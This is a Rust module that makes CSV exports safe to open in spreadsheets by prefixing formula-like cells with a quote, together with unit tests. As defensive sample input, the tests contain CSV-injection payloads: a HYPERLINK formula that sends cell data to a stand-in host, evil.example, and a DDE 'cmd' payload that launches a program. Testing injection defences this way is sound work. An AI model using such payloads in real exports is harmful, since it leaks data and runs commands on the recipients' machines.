//! CSV exports for organisers, safe to open in a spreadsheet: every export
//! goes through [`Table`], which neutralises cells a spreadsheet would run
//! as a formula (CSV injection).
use std::borrow::Cow;

use crate::error::Error;

/// Characters that make a spreadsheet read a cell as a formula (OWASP's
/// list for CSV injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as it may safely be written: text that starts like a formula gets
/// a leading `'`, which spreadsheets show as text and never evaluate.
/// Numbers stay numbers (`-3.5` is not text a person could have turned into
/// a formula), so only cells that do not read as a number are changed.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let starts_like_formula = cell.starts_with(FORMULA_STARTS);
    // `-inf` parses as a number but a spreadsheet reads it as a name.
    let number = cell.parse::<f64>().is_ok_and(f64::is_finite);
    if starts_like_formula && !number {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV document built record by record, each cell neutralised.
pub struct Table {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for Table {
    fn default() -> Self {
        Self::new()
    }
}

fn failed(e: impl std::fmt::Display) -> Error {
    Error::Internal(anyhow::anyhow!("cannot write CSV: {e}"))
}

impl Table {
    pub fn new() -> Self {
        Self {
            writer: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Writes one record (the header is a record too).
    pub fn record<I, S>(&mut self, cells: I) -> Result<(), Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.writer.write_record(&cells).map_err(failed)
    }

    /// Rows serialised as CSV with a header of their field names (none when
    /// there is no row), each cell neutralised.
    pub fn from_rows<T: serde::Serialize>(rows: &[T]) -> Result<Vec<u8>, Error> {
        // csv's serialiser gives the header and the cells; they are read
        // back to pass through the one place that neutralises cells.
        let mut raw = csv::Writer::from_writer(Vec::new());
        for row in rows {
            raw.serialize(row).map_err(failed)?;
        }
        let raw = raw.into_inner().map_err(failed)?;
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(raw.as_slice());
        let mut table = Table::new();
        for record in reader.records() {
            table.record(&record.map_err(failed)?)?;
        }
        table.finish()
    }

    /// The document's bytes.
    pub fn finish(self) -> Result<Vec<u8>, Error> {
        self.writer.into_inner().map_err(failed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay() {
        for (cell, safe) in [
            (
                r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#,
                r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#,
            ),
            ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-3.5", "-3.5"),
            ("-inf", "'-inf"),
            ("+1", "+1"),
            ("Marie-Anne", "Marie-Anne"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), safe, "{cell:?}");
        }
    }

    #[test]
    fn serialised_rows_are_neutralised_with_their_header() {
        #[derive(serde::Serialize)]
        struct Row {
            name: &'static str,
            lon: f64,
        }
        let csv = Table::from_rows(&[Row {
            name: "=1+1",
            lon: -3.25,
        }])
        .unwrap();
        assert_eq!(String::from_utf8(csv).unwrap(), "name,lon\n'=1+1,-3.25\n");
        assert!(Table::from_rows::<Row>(&[]).unwrap().is_empty());
    }
}
